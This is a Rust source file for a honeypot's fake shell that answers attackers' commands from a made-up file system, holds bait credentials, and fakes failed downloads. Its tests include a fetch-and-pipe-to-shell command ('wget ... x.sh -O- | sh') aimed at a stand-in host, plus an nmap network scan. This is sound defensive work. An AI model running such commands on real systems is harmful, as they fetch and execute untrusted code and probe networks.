//! The fake shell behind a decoy login (SSH, telnet): a prompt, a few answers from a small made-up
//! file system, and nothing else. Nothing typed is ever executed or fetched: `wget` and `curl`
//! are recorded by the caller's log line and answered with a failure.

/// What one command line did to the session.
#[derive(Debug, PartialEq, Eq)]
pub enum Outcome {
    /// Print this (may be empty) and prompt again.
    Output(String),
    /// The attacker logged out.
    Exit,
}

/// One logged-in attacker's shell.
pub struct FakeShell {
    hostname: String,
    user: String,
    cwd: String,
}

/// The made-up file system: directories with their entries, files with their contents.
const DIRECTORIES: &[(&str, &[&str])] = &[
    ("/", &["bin", "boot", "dev", "etc", "home", "lib", "opt", "proc", "root", "srv", "tmp", "usr", "var"]),
    ("/root", &[".bash_history", ".bashrc", ".ssh", "backup.sh"]),
    ("/etc", &["hostname", "hosts", "issue", "os-release", "passwd", "shadow", "ssh"]),
    ("/home", &["admin"]),
    ("/home/admin", &[".bashrc", "notes.txt"]),
    ("/tmp", &[]),
    ("/var", &["backups", "log", "www"]),
    ("/var/www", &["html"]),
    ("/var/www/html", &["index.html", "config.php"]),
];

const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n\
bin:x:2:2:bin:/bin:/usr/sbin/nologin\nsys:x:3:3:sys:/dev:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:\
/usr/sbin/nologin\nsshd:x:110:65534::/run/sshd:/usr/sbin/nologin\nadmin:x:1000:1000:admin,,,:/home/admin:/bin/bash\n";

const OS_RELEASE: &str = "PRETTY_NAME=\"Ubuntu 22.04.4 LTS\"\nNAME=\"Ubuntu\"\nVERSION_ID=\"22.04\"\n\
VERSION=\"22.04.4 LTS (Jammy Jellyfish)\"\nID=ubuntu\nID_LIKE=debian\n";

impl FakeShell {
    pub fn new(hostname: &str, user: &str) -> FakeShell {
        let cwd = if user == "root" { "/root".to_string() } else { format!("/home/{user}") };
        FakeShell { hostname: hostname.to_string(), user: user.to_string(), cwd }
    }

    pub fn user(&self) -> &str {
        &self.user
    }

    pub fn cwd(&self) -> &str {
        &self.cwd
    }

    /// `root@host:~# `, as bash would show it.
    pub fn prompt(&self) -> String {
        let home = if self.user == "root" { "/root".to_string() } else { format!("/home/{}", self.user) };
        let dir = if self.cwd == home { "~".to_string() } else { self.cwd.clone() };
        let sign = if self.user == "root" { '#' } else { '$' };
        format!("{}@{}:{dir}{sign} ", self.user, self.hostname)
    }

    /// Answers one command line: each `;`, `&&` or `||` part in turn, a pipeline by its first
    /// command.
    pub fn run(&mut self, line: &str) -> Outcome {
        let mut output = String::new();
        for part in line.split([';', '\n']).flat_map(|p| p.split("&&")).flat_map(|p| p.split("||")) {
            let first = part.split('|').next().unwrap_or("").trim();
            if first.is_empty() {
                continue;
            }
            match self.command(first) {
                Outcome::Exit => return Outcome::Exit,
                Outcome::Output(text) => output.push_str(&text),
            }
        }
        Outcome::Output(output)
    }

    fn command(&mut self, text: &str) -> Outcome {
        let words: Vec<&str> = text.split_whitespace().collect();
        let (name, args) = (words[0], &words[1..]);
        let out = match name {
            "exit" | "logout" | "quit" => return Outcome::Exit,
            "whoami" => format!("{}\n", self.user),
            "id" => self.id(),
            "pwd" => format!("{}\n", self.cwd),
            "hostname" => format!("{}\n", self.hostname),
            "uname" => self.uname(args),
            "uptime" => " 14:02:11 up 41 days,  3:17,  1 user,  load average: 0.08, 0.03, 0.01\n".into(),
            "w" | "who" => format!("{}    pts/0        2026-11-23 14:01\n", self.user),
            "ps" => {
                "    PID TTY          TIME CMD\n   2291 pts/0    00:00:00 bash\n   2318 pts/0    00:00:00 ps\n".into()
            }
            "echo" => format!("{}\n", args.join(" ")),
            "cd" => self.cd(args.first().copied()),
            "ls" | "dir" => self.ls(args),
            "cat" | "head" | "tail" | "more" | "less" => self.cat(args),
            "wget" | "curl" => self.download(name, args),
            "history" | "clear" | "export" | "unset" | "true" | "sleep" | "chmod" | "chown" | "touch" | "mkdir"
            | "rm" | "cp" | "mv" | "kill" | "nohup" => String::new(),
            "sudo" if !args.is_empty() => return self.command(&args.join(" ")),
            _ => format!("-bash: {name}: command not found\n"),
        };
        Outcome::Output(out)
    }

    fn id(&self) -> String {
        if self.user == "root" {
            "uid=0(root) gid=0(root) groups=0(root)\n".into()
        } else {
            format!("uid=1000({0}) gid=1000({0}) groups=1000({0}),27(sudo)\n", self.user)
        }
    }

    fn uname(&self, args: &[&str]) -> String {
        if args.iter().any(|a| a.contains('a')) {
            format!(
                "Linux {} 5.15.0-105-generic #115-Ubuntu SMP Mon Apr 15 09:52:04 UTC 2024 x86_64 x86_64 x86_64 GNU/Linux\n",
                self.hostname
            )
        } else {
            "Linux\n".into()
        }
    }

    /// `path` made absolute against the working directory, `~` as the home directory.
    fn resolve(&self, path: &str) -> String {
        let home = if self.user == "root" { "/root".to_string() } else { format!("/home/{}", self.user) };
        absolute(&self.cwd, &path.replacen('~', &home, 1))
    }

    fn directory(path: &str) -> Option<&'static [&'static str]> {
        DIRECTORIES.iter().find(|(dir, _)| *dir == path).map(|(_, entries)| *entries)
    }

    fn cd(&mut self, target: Option<&str>) -> String {
        let path = self.resolve(target.unwrap_or("~"));
        if Self::directory(&path).is_some() {
            self.cwd = path;
            String::new()
        } else {
            format!("-bash: cd: {}: No such file or directory\n", target.unwrap_or(""))
        }
    }

    fn ls(&self, args: &[&str]) -> String {
        let target = args.iter().find(|a| !a.starts_with('-')).copied();
        let path = self.resolve(target.unwrap_or("."));
        let show_hidden = args.iter().any(|a| a.starts_with('-') && a.contains('a'));
        match Self::directory(&path) {
            Some(entries) => {
                let shown: Vec<&str> = entries.iter().copied().filter(|e| show_hidden || !e.starts_with('.')).collect();
                if shown.is_empty() { String::new() } else { format!("{}\n", shown.join("  ")) }
            }
            None if self.contents(&path).is_some() => format!("{}\n", target.unwrap_or("")),
            None => format!("ls: cannot access '{}': No such file or directory\n", target.unwrap_or("")),
        }
    }

    fn contents(&self, path: &str) -> Option<String> {
        Some(match path {
            "/etc/passwd" => PASSWD.to_string(),
            "/etc/hostname" => format!("{}\n", self.hostname),
            "/etc/hosts" => format!("127.0.0.1 localhost\n127.0.1.1 {}\n", self.hostname),
            "/etc/issue" => "Ubuntu 22.04.4 LTS \\n \\l\n".to_string(),
            "/etc/os-release" => OS_RELEASE.to_string(),
            "/etc/shadow" if self.user != "root" => return None,
            "/etc/shadow" => "root:$6$Zq1k$Fake.Hash:19700:0:99999:7:::\n".to_string(),
            "/root/.bash_history" => "ls\ncd /var/www/html\n".to_string(),
            "/root/backup.sh" => "#!/bin/sh\ntar czf /var/backups/www.tgz /var/www/html\n".to_string(),
            "/home/admin/notes.txt" => "db password rotated, see config.php\n".to_string(),
            "/var/www/html/index.html" => "<html><body><h1>It works!</h1></body></html>\n".to_string(),
            "/var/www/html/config.php" => "<?php\n$db_user = 'www';\n$db_pass = 'Www-2019!';\n".to_string(),
            _ => return None,
        })
    }

    fn cat(&self, args: &[&str]) -> String {
        let mut out = String::new();
        for file in args.iter().filter(|a| !a.starts_with('-')) {
            let path = self.resolve(file);
            match self.contents(&path) {
                Some(text) => out.push_str(&text),
                None if Self::directory(&path).is_some() => out.push_str(&format!("cat: {file}: Is a directory\n")),
                None if path == "/etc/shadow" => out.push_str(&format!("cat: {file}: Permission denied\n")),
                None => out.push_str(&format!("cat: {file}: No such file or directory\n")),
            }
        }
        out
    }

    /// Never fetched: the download seems to start, then fails as if the host were unreachable.
    fn download(&self, tool: &str, args: &[&str]) -> String {
        let url = args.iter().find(|a| !a.starts_with('-')).copied().unwrap_or("");
        let host = url.split("://").nth(1).unwrap_or(url).split(['/', ':']).next().unwrap_or("");
        if tool == "curl" {
            format!("curl: (6) Could not resolve host: {host}\n")
        } else {
            format!(
                "--2026-11-23 14:03:27--  {url}\nResolving {host} ({host})... failed: Temporary failure in name resolution.\nwget: unable to resolve host address '{host}'\n"
            )
        }
    }
}

/// `path` made absolute against `cwd`, `.` and `..` resolved (never above `/`).
pub fn absolute(cwd: &str, path: &str) -> String {
    let joined = if path.starts_with('/') { path.to_string() } else { format!("{cwd}/{path}") };
    let mut parts: Vec<&str> = Vec::new();
    for part in joined.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            other => parts.push(other),
        }
    }
    format!("/{}", parts.join("/"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn out(shell: &mut FakeShell, line: &str) -> String {
        match shell.run(line) {
            Outcome::Output(text) => text,
            Outcome::Exit => panic!("`{line}` ended the session"),
        }
    }

    #[test]
    fn the_shell_answers_from_its_made_up_system() {
        let mut shell = FakeShell::new("web-01", "root");
        assert_eq!(shell.prompt(), "root@web-01:~# ");
        assert!(out(&mut shell, "uname -a").starts_with("Linux web-01 5.15"));
        assert_eq!(out(&mut shell, "id"), "uid=0(root) gid=0(root) groups=0(root)\n");
        assert!(out(&mut shell, "cat /etc/passwd").contains("root:x:0:0"));
        assert_eq!(out(&mut shell, "cd /var/www/html; pwd"), "/var/www/html\n");
        assert_eq!(shell.prompt(), "root@web-01:/var/www/html# ");
        assert_eq!(out(&mut shell, "ls"), "index.html  config.php\n");
        assert_eq!(out(&mut shell, "cd ../../..; ls /tmp"), "");
        assert_eq!(out(&mut shell, "nmap -sS 10.0.0.0/8"), "-bash: nmap: command not found\n");
        assert!(
            out(&mut shell, "wget http://203.0.113.9/x.sh -O- | sh")
                .contains("unable to resolve host address '203.0.113.9'")
        );
        assert_eq!(out(&mut shell, "cd /tmp; cd; pwd"), "/root\n", "cd alone goes home");
        assert_eq!(out(&mut shell, "cd /tmp; cd ~/..; pwd"), "/\n");
        assert_eq!(shell.run("id && exit"), Outcome::Exit);
    }

    #[test]
    fn a_plain_user_cannot_read_the_shadow_file() {
        let mut shell = FakeShell::new("h", "admin");
        assert_eq!(shell.prompt(), "admin@h:~$ ");
        assert_eq!(out(&mut shell, "cat /etc/shadow"), "cat: /etc/shadow: Permission denied\n");
        assert_eq!(out(&mut shell, "cat notes.txt"), "db password rotated, see config.php\n");
    }
}
